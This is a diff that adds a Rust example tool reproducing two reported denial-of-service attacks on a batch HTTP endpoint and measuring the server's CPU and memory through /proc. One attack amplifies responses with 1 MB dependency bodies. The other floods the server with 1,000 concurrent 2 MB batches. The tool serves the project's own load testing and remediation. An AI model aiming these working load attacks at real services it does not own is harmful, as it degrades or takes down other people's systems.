@@ -1,0 +1,207 @@
+//! The two load attacks of issue 12, over real HTTP against a running server, with the
+//! server's CPU time and memory read from `/proc/<pid>` before and after.
+//!
+//! ```text
+//! cargo build --release --example demo --example attack
+//! target/release/examples/demo --addr 127.0.0.1:3000 & PID=$!
+//! target/release/examples/attack --target 127.0.0.1:3000 --pid $PID amplify --demo
+//! target/release/examples/attack --target 127.0.0.1:3000 --pid $PID in-flight
+//! ```
+//!
+//! `amplify`: 16 items that each return a 1 MB JSON body, then 84 items that each depend on
+//! all 16 and read `{{a0#/status}}` (or `--pointer /body/0`, which parses). With `--demo`,
+//! the 1 MB body is a demo user created first with a 1 MB name; otherwise `--big-url`
+//! (for `batch-proxy` in front of `python3 -m http.server`, a 1 MB `.json` file).
+//!
+//! `in-flight`: `--batches` (1,000) connections at once, each sending a batch of about
+//! 2 MB (100 `GET /whoami` and padding in an unknown field), reading the reply to the end.
+//!
+//! Memory is the peak resident set above the idle server (`VmHWM` after, once the kernel's
+//! mark is reset through `/proc/<pid>/clear_refs`, minus `VmRSS` before).
+
+use clap::{Parser, Subcommand};
+use serde_json::{json, Value};
+use std::time::Instant;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+
+#[derive(Parser)]
+struct Args {
+    /// The server, as `host:port`.
+    #[arg(long)]
+    target: String,
+    /// The server's process id, to read its CPU time and memory.
+    #[arg(long)]
+    pid: u32,
+    /// The batch endpoint.
+    #[arg(long, default_value = "/batch")]
+    path: String,
+    #[command(subcommand)]
+    attack: Attack,
+}
+
+#[derive(Subcommand)]
+enum Attack {
+    /// References into big dependencies.
+    Amplify {
+        /// Create a demo user with a 1 MB name and read it as the big body.
+        #[arg(long)]
+        demo: bool,
+        /// A URL that answers a 1 MB JSON body (without `--demo`).
+        #[arg(long, default_value = "/big.json")]
+        big_url: String,
+        /// What each of the 84 items reads from each dependency.
+        #[arg(long, default_value = "/status")]
+        pointer: String,
+    },
+    /// Many 2 MB batches at once.
+    InFlight {
+        #[arg(long, default_value_t = 1000)]
+        batches: usize,
+    },
+}
+
+/// CPU seconds (user + system) and resident memory of a process.
+struct Usage {
+    cpu_secs: f64,
+    rss_kib: u64,
+    hwm_kib: u64,
+}
+
+fn usage(pid: u32) -> Usage {
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).expect("the server runs");
+    // Fields after the command name, which is in parentheses and may hold spaces.
+    let fields: Vec<&str> = stat[stat.rfind(')').unwrap() + 2..].split(' ').collect();
+    let ticks: f64 = fields[11].parse::<f64>().unwrap() + fields[12].parse::<f64>().unwrap();
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let kib = |key: &str| {
+        let line = status.lines().find(|l| l.starts_with(key)).unwrap();
+        line.split_whitespace().nth(1).unwrap().parse().unwrap()
+    };
+    Usage {
+        cpu_secs: ticks / 100.0,
+        rss_kib: kib("VmRSS:"),
+        hwm_kib: kib("VmHWM:"),
+    }
+}
+
+/// One HTTP/1.1 request on its own connection; the status and body of the reply.
+async fn send(
+    target: &str,
+    method: &str,
+    path: &str,
+    body: &[u8],
+) -> std::io::Result<(u16, Vec<u8>)> {
+    let mut stream = TcpStream::connect(target).await?;
+    let head = format!(
+        "{method} {path} HTTP/1.1\r\nhost: {target}\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
+        body.len()
+    );
+    stream.write_all(head.as_bytes()).await?;
+    // A server may answer (503, 413) without reading the body, and close: read its reply
+    // all the same.
+    let written = stream.write_all(body).await;
+    let mut reply = Vec::new();
+    let read = stream.read_to_end(&mut reply).await;
+    if reply.is_empty() {
+        written?;
+        read?;
+    }
+    let status = reply.get(9..12).and_then(|s| std::str::from_utf8(s).ok());
+    let status = status.and_then(|s| s.parse().ok()).unwrap_or(0);
+    let at = reply
+        .windows(4)
+        .position(|w| w == b"\r\n\r\n")
+        .map_or(0, |i| i + 4);
+    Ok((status, reply.split_off(at)))
+}
+
+async fn amplify(args: &Args, demo: bool, big_url: &str, pointer: &str) -> String {
+    let big_url = if demo {
+        let user = json!({"name": "x".repeat(1_000_000), "email": "big@example.com"});
+        let (status, body) = send(&args.target, "POST", "/users", user.to_string().as_bytes())
+            .await
+            .unwrap();
+        assert_eq!(status, 201, "{}", String::from_utf8_lossy(&body));
+        let user: Value = serde_json::from_slice(&body).unwrap();
+        format!("/users/{}", user["id"])
+    } else {
+        big_url.to_string()
+    };
+    let mut requests: Vec<Value> = (0..16)
+        .map(|i| json!({"id": format!("a{i}"), "url": big_url}))
+        .collect();
+    let ids: Vec<String> = (0..16).map(|i| format!("a{i}")).collect();
+    let headers: serde_json::Map<String, Value> = (0..16)
+        .map(|i| (format!("x-{i}"), json!(format!("{{{{a{i}#{pointer}}}}}"))))
+        .collect();
+    for i in 0..84 {
+        requests.push(
+            json!({"id": format!("r{i}"), "url": "/whoami", "dependsOn": ids, "headers": headers}),
+        );
+    }
+    let batch = json!({ "requests": requests }).to_string();
+    let (status, body) = send(&args.target, "POST", &args.path, batch.as_bytes())
+        .await
+        .unwrap();
+    let reply: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
+    let mut counts = std::collections::BTreeMap::new();
+    for item in reply["responses"].as_array().into_iter().flatten() {
+        *counts.entry(item["status"].to_string()).or_insert(0) += 1;
+    }
+    format!(
+        "batch of {} bytes: {status}, item statuses {counts:?}, reply {} bytes",
+        batch.len(),
+        body.len()
+    )
+}
+
+async fn in_flight(args: &Args, batches: usize) -> String {
+    let requests: Vec<Value> = (0..100).map(|_| json!({"url": "/whoami"})).collect();
+    let pad = "x".repeat(2_000_000 - 3_000);
+    let batch = json!({ "requests": requests, "pad": pad })
+        .to_string()
+        .into_bytes();
+    let batch = std::sync::Arc::new(batch);
+    let tasks: Vec<_> = (0..batches)
+        .map(|_| {
+            let (batch, target, path) = (batch.clone(), args.target.clone(), args.path.clone());
+            tokio::spawn(async move { send(&target, "POST", &path, &batch).await })
+        })
+        .collect();
+    let mut counts = std::collections::BTreeMap::new();
+    for task in tasks {
+        let status = match task.await.unwrap() {
+            Ok((status, _)) => status.to_string(),
+            Err(e) => format!("{:?}", e.kind()),
+        };
+        *counts.entry(status).or_insert(0) += 1;
+    }
+    format!("{batches} batches of {} bytes: {counts:?}", batch.len())
+}
+
+#[tokio::main]
+async fn main() {
+    let args = Args::parse();
+    let before = usage(args.pid);
+    // Reset the peak-RSS mark, so VmHWM is this attack's peak.
+    std::fs::write(format!("/proc/{}/clear_refs", args.pid), "5").expect("clear_refs");
+    let started = Instant::now();
+    let outcome = match &args.attack {
+        Attack::Amplify {
+            demo,
+            big_url,
+            pointer,
+        } => amplify(&args, *demo, big_url, pointer).await,
+        Attack::InFlight { batches } => in_flight(&args, *batches).await,
+    };
+    let after = usage(args.pid);
+    println!("{outcome}");
+    println!(
+        "server: {:.2} s of CPU, peak {} MiB above idle ({} MiB idle); {:.1} s wall",
+        after.cpu_secs - before.cpu_secs,
+        after.hwm_kib.saturating_sub(before.rss_kib) / 1024,
+        before.rss_kib / 1024,
+        started.elapsed().as_secs_f64()
+    );
+}
